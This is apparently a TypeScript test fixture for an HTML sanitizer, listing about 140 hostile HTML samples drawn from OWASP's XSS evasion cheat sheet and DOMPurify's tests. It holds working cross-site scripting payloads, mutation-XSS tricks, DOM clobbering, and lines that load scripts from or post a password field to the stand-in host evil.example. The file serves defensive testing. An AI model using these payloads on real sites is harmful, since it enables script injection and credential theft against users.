/**
 * HTML that tries to run something, show something foreign or break out of where it stands. Compiled
 * from the kinds of attack in OWASP's XSS Filter Evasion Cheat Sheet and in the test cases of
 * DOMPurify, written down here so that the tests need no network.
 */
export type HostileCase = { name: string; html: string };

export const HOSTILE_HTML: readonly HostileCase[] = [
  // Scripts, in every spelling.
  { name: 'a script', html: '<script>alert(1)</script>' },
  { name: 'a script from elsewhere', html: '<script src="https://evil.example/x.js"></script>' },
  { name: 'a script in capitals', html: '<SCRIPT SRC=//evil.example/x.js></SCRIPT>' },
  { name: 'a script in mixed case', html: '<ScRiPt>alert(1)</sCrIpT>' },
  {
    name: 'a script with a slash for a space',
    html: '<script/src="//evil.example/x.js"></script>',
  },
  { name: 'a script with odd attributes', html: '<script/XSS SRC="//evil.example/x.js"></script>' },
  { name: 'a script that never ends', html: '<script>alert(1)' },
  { name: 'a script without its last bracket', html: '<script src=//evil.example/x.js <b>' },
  { name: 'a script with two opening brackets', html: '<<script>alert(1);//<</script>' },
  {
    name: 'a script with a quoted bracket',
    html: '<script a=">" src="//evil.example/x.js"></script>',
  },
  { name: 'a script inside a script tag', html: '<scr<script>ipt>alert(1)</scr</script>ipt>' },
  { name: 'a script with space before its end', html: '<script>alert(1)</script \t\n bar>' },
  { name: 'a script after a NUL', html: '<scr\0ipt>alert(1)</scr\0ipt>' },
  { name: 'a module script', html: '<script type="module">import "//evil.example/x.js"</script>' },
  {
    name: 'a script as JSON',
    html: '<script type="application/ld+json">{"@type":"Thing"}</script>',
  },
  { name: 'an SVG script', html: '<svg><script>alert(1)</script></svg>' },
  { name: 'an SVG script with an entity', html: '<svg><script>alert&#40;1)</script></svg>' },
  { name: 'an SVG script by reference', html: '<svg><script href="data:,alert(1)" /></svg>' },
  // Pictures and other media with handlers.
  { name: 'a picture with an error handler', html: '<img src=x onerror=alert(1)>' },
  { name: 'a picture with a quoted handler', html: '<img src="x" onerror="alert(1)">' },
  { name: 'a picture with a slash for spaces', html: '<img/src=x/onerror=alert(1)>' },
  { name: 'a picture with a line break in its handler', html: '<img src=x onerror\n=alert(1)>' },
  { name: 'a picture with backquotes', html: '<img src=`javascript:alert("RSnake says")`>' },
  { name: 'a malformed picture with a script', html: '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>' },
  { name: 'a picture with an encoded handler', html: '<img src=x onerror="&#97;&#108;ert(1)">' },
  { name: 'a picture with a script address', html: '<img src="javascript:alert(1)">' },
  { name: 'a picture with a script address, encoded', html: '<img src=&#106;avascript:alert(1)>' },
  { name: 'a picture with long entities', html: '<img src="&#0000106&#0000097vascript:alert(1)">' },
  {
    name: 'a picture with hexadecimal entities',
    html: '<img src="&#x6A&#x61&#x76ascript:alert(1)">',
  },
  { name: 'a picture with a tab in its address', html: '<img src="jav\tascript:alert(1);">' },
  { name: 'a picture with an encoded tab', html: '<img src="jav&#x09;ascript:alert(1);">' },
  { name: 'a picture with an encoded line feed', html: '<img src="jav&#x0A;ascript:alert(1);">' },
  { name: 'a picture with control characters', html: '<img src=" &#14;  javascript:alert(1);">' },
  { name: 'a picture that never ends', html: '<img src="javascript:alert(1)"' },
  { name: 'a tracking picture', html: '<img src="https://evil.example/pixel.gif" width=1>' },
  { name: 'a picture set', html: '<img srcset="x 1x, javascript:alert(1) 2x">' },
  { name: 'a picture by an old name', html: '<image src=x onerror=alert(1)>' },
  { name: 'a low source', html: '<img lowsrc="javascript:alert(1)" dynsrc="javascript:alert(2)">' },
  { name: 'a video with a handler', html: '<video><source onerror="alert(1)"></video>' },
  { name: 'a video with a poster', html: '<video poster="javascript:alert(1)//"></video>' },
  { name: 'a sound with a handler', html: '<audio src=x onerror=alert(1)></audio>' },
  // Handlers on tags that are allowed, and on others.
  { name: 'a paragraph with a handler', html: '<p onclick="alert(1)">text</p>' },
  {
    name: 'a heading that takes the focus',
    html: '<h2 tabindex=1 autofocus onfocus=alert(1)>x</h2>',
  },
  { name: 'an emphasis with a handler', html: '<strong onmouseover="alert(1)">text</strong>' },
  {
    name: 'a list item with an animation',
    html: '<li style="animation:x" onanimationend=alert(1)>x',
  },
  {
    name: 'a quotation with a cite',
    html: '<blockquote cite="javascript:alert(1)">x</blockquote>',
  },
  { name: 'a paragraph with a class and an id', html: '<p class="overlay" id="main">text</p>' },
  { name: 'a break with a handler', html: '<br size="&{alert(1)}" onclick=alert(1)>' },
  { name: 'a body with a handler', html: '<body onload=alert(1)>' },
  { name: 'a body with odd characters', html: '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(1)>' },
  { name: 'a body with a background', html: '<body background="javascript:alert(1)">' },
  {
    name: 'details with a handler',
    html: '<details open ontoggle=alert(1)><summary>x</summary></details>',
  },
  { name: 'a marquee with a handler', html: '<marquee onstart=alert(1)>x</marquee>' },
  { name: 'an unknown tag with a handler', html: '<x onclick=alert(1)>click</x>' },
  { name: 'a custom element', html: '<my-element onpointerenter=alert(1)>x</my-element>' },
  { name: 'a handler after a closed quote', html: '<p title="a"onmouseover="alert(1)">x</p>' },
  // Links and other addresses.
  { name: 'a link to a script', html: '<a href="javascript:alert(1)">x</a>' },
  { name: 'a link to a script in mixed case', html: '<a href="JaVaScRiPt:alert(1)">x</a>' },
  { name: 'a link with a form feed', html: '<a href="\u000cjavascript:alert(1)">x</a>' },
  { name: 'a link with a no-break space', html: '<a href="\u00a0javascript:alert(1)">x</a>' },
  { name: 'a link with a named entity', html: '<a href="javascript&colon;alert(1)">x</a>' },
  {
    name: 'a link with new lines by name',
    html: '<a href="java&NewLine;script&Tab;:alert(1)">x</a>',
  },
  {
    name: 'a link to data',
    html: '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  },
  { name: 'a link to VBScript', html: '<a href="vbscript:msgbox(1)">x</a>' },
  {
    name: 'a link that pings',
    html: '<a href="https://evil.example" ping="https://evil.example">x</a>',
  },
  {
    name: 'a link out, with an opener',
    html: '<a href="https://evil.example" target=_blank>Claim</a>',
  },
  { name: 'a base', html: '<base href="javascript:alert(1);//">' },
  { name: 'a refresh', html: '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">' },
  { name: 'a cookie by meta', html: '<meta http-equiv="Set-Cookie" content="a=b">' },
  // Frames and plug-ins.
  { name: 'a frame', html: '<iframe src="javascript:alert(1)"></iframe>' },
  {
    name: 'a frame with its own document',
    html: '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  },
  { name: 'a frame with a handler', html: '<iframe src=# onmouseover="alert(1)"></iframe>' },
  { name: 'a frame with two brackets', html: '<iframe src=https://evil.example/x.html <' },
  { name: 'a frameset', html: '<frameset><frame src="javascript:alert(1)"></frameset>' },
  { name: 'an object', html: '<object data="data:text/html,<script>alert(1)</script>"></object>' },
  {
    name: 'an object with a parameter',
    html: '<object><param name=url value=javascript:alert(1)></object>',
  },
  {
    name: 'an embedding',
    html: '<embed src="data:image/svg+xml;base64,PHN2Zy8+" type="image/svg+xml">',
  },
  { name: 'an applet', html: '<applet code="x.class" codebase="https://evil.example/"></applet>' },
  // Styles.
  { name: 'a style sheet', html: '<style>body{display:none}</style>' },
  { name: 'an import', html: '<style>@import"//evil.example/x.css";</style>' },
  { name: 'a linked style sheet', html: '<link rel="stylesheet" href="//evil.example/x.css">' },
  {
    name: 'a style that covers the page',
    html: '<p style="position:fixed;inset:0">Claim your bonus</p>',
  },
  { name: 'a style with an expression', html: '<p style="width: expression(alert(1))">x</p>' },
  {
    name: 'a style with a comment in it',
    html: '<p style="xss:expr/*XSS*/ession(alert(1))">x</p>',
  },
  {
    name: 'a background address',
    html: '<div style="background:url(javascript:alert(1))">x</div>',
  },
  {
    name: 'a table with a background',
    html: '<table background="javascript:alert(1)"><td>x</table>',
  },
  // Forms.
  { name: 'a form', html: '<form action="https://evil.example"><input name=password></form>' },
  {
    name: 'a button with its own action',
    html: '<form id=f></form><button form=f formaction=javascript:alert(1)>x',
  },
  { name: 'a picture as a button', html: '<input type="image" src="javascript:alert(1)">' },
  { name: 'a field that takes the focus', html: '<input autofocus onfocus=alert(1)>' },
  { name: 'a key generator', html: '<keygen autofocus onfocus=alert(1)>' },
  { name: 'a clobbered document', html: '<form name=body><input name=attributes></form>' },
  { name: 'a clobbered property', html: '<img name=getElementById><a id=cookie></a>' },
  { name: 'a dialog that opens itself', html: '<dialog open><p>Claim</p></dialog>' },
  {
    name: 'a popover',
    html: '<button popovertarget=x>a</button><p popover id=x onbeforetoggle=alert(1)>x</p>',
  },
  // Other languages inside HTML.
  { name: 'an SVG with a handler', html: '<svg onload=alert(1)>' },
  { name: 'an SVG without spaces', html: '<svg/onload=alert(1)//' },
  {
    name: 'an SVG link',
    html: '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
  },
  { name: 'an SVG animation', html: '<svg><animate onbegin=alert(1) attributeName=x dur=1s>' },
  {
    name: 'an SVG that sets an address',
    html: '<svg><a><set attributeName=href to=javascript:alert(1) />x</a></svg>',
  },
  {
    name: 'an SVG with foreign HTML',
    html: '<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>',
  },
  {
    name: 'an SVG with use',
    html: '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
  },
  { name: 'a MathML link', html: '<math href="javascript:alert(1)">click</math>' },
  {
    name: 'a MathML action',
    html: '<math><maction actiontype="statusline#x" xlink:href="javascript:alert(1)">x</maction></math>',
  },
  { name: 'XML with a style sheet', html: '<?xml-stylesheet href="javascript:alert(1)"?><p>x</p>' },
  {
    name: 'an XML island',
    html: '<xml id=x><a><b>&lt;script&gt;alert(1)&lt;/script&gt;</b></a></xml>',
  },
  { name: 'a CDATA section', html: '<![CDATA[<script>alert(1)</script>]]>' },
  // Markup that means one thing to a filter and another to a browser.
  { name: 'a comment with a way out', html: '<!--><script>alert(1)</script>-->' },
  { name: 'a comment with an early end', html: '<!--!><img src=x onerror=alert(1)>-->' },
  {
    name: 'a conditional comment',
    html: '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  },
  {
    name: 'a comment in a style in a paragraph',
    html: '<p><style><!--</style><img src=x onerror=alert(1)>--></p>',
  },
  {
    name: 'a noscript with a way out',
    html: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  },
  {
    name: 'a text area with a way out',
    html: '<textarea><img title="</textarea><img src=x onerror=alert(1)>">',
  },
  {
    name: 'a title with a way out',
    html: '<title><p title="</title><img src=x onerror=alert(1)>"></title>',
  },
  {
    name: 'an xmp with a way out',
    html: '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  },
  {
    name: 'a noembed with a way out',
    html: '<noembed><p title="</noembed><svg onload=alert(1)>"></noembed>',
  },
  { name: 'a plaintext', html: '<plaintext><script>alert(1)</script>' },
  { name: 'a template', html: '<template><script>alert(1)</script></template>' },
  {
    name: 'a shadow tree',
    html: '<div><template shadowrootmode=open><img src=x onerror=alert(1)></template></div>',
  },
  {
    name: 'a mutation by MathML and style',
    html: '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  },
  {
    name: 'a mutation by nested forms',
    html: '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  },
  {
    name: 'a mutation by SVG and style',
    html: '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  },
  {
    name: 'a mutation by SVG and paragraph',
    html: '<svg><p><style><g title="</style><img src=x onerror=alert(1)>">',
  },
  {
    name: 'a mutation by an annotation',
    html: '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
  },
  {
    name: 'a mutation by select',
    html: '<select><style></select><img src=x onerror=alert(1)></style>',
  },
  {
    name: 'a mutation by an option',
    html: '<select><option><style></option></select><b><img src=xx: onerror=alert(1)></style></option>',
  },
  {
    name: 'markup twice encoded',
    html: '&lt;script&gt;alert(1)&lt;/script&gt;<p id="&lt;script&gt;">x</p>',
  },
  { name: 'a tag name with a bracket in it', html: '<p<script>alert(1)</script>>x' },
  { name: 'a closing tag with a handler', html: '</p onclick=alert(1)><p x onclick=alert(2)>x' },
  { name: 'a paragraph with an endless quote', html: '<p title="x><script>alert(1)</script>' },
  {
    name: 'a polyglot',
    html: 'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=alert() )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>',
  },
  // Markup of our own, where it would be believed.
  {
    name: 'a way out of the article',
    html: '</div></article></main><footer><p id=x>Licensed by nobody</p></footer>',
  },
  {
    name: 'a second title',
    html: '<article data-article><h1 id="article-title">Another article</h1></article>',
  },
  {
    name: 'an island',
    html: '<astro-island component-url="//evil.example/x.js" client="load"></astro-island>',
  },
];

/** Those that the content check lets into a file: it refuses what has characters that nobody sees. */
export const ACCEPTED_HTML = HOSTILE_HTML.filter(({ html }) => !/[\0\f]/.test(html));
